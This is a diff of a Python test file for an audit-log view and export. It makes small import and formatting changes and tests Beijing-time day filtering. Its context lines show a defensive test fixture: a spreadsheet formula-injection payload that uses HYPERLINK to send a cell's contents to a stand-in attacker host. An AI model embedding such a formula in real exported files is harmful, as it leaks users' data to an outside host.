@@ -3,7 +3,7 @@ text cells only (the export itself logged), and every other role refused."""
 from __future__ import annotations
 
 import io
-from datetime import date, datetime, timezone
+from datetime import UTC, date, datetime
 from pathlib import Path
 
 import pytest
@@ -19,7 +19,6 @@ PAYLOAD = '=HYPERLINK("http://evil.example/?d="&C4,"点击查看")'
 def _write(actor: str, action: str, entity: str, at: datetime | None = None) -> None:
     from services.db import session_scope
     from store import audit
-
     from store.models import AuditEntry
 
     with session_scope() as s:
@@ -48,7 +47,7 @@ def test_entries_in_words_and_beijing_time(demo_db):
     from services import audit_view
 
     # 2026-03-01 17:30 UTC is 2026-03-02 01:30 in Beijing: the day filter must use Beijing days
-    _write("zhang", "publish", "round", datetime(2026, 3, 1, 17, 30, tzinfo=timezone.utc))
+    _write("zhang", "publish", "round", datetime(2026, 3, 1, 17, 30, tzinfo=UTC))
     admin = demo_user("admin")
     day = audit_view.entries(admin, audit_view.AuditFilter(since=date(2026, 3, 2), until=date(2026, 3, 2)))
     assert list(day["时间（北京）"]) == ["2026-03-02 01:30:00"]
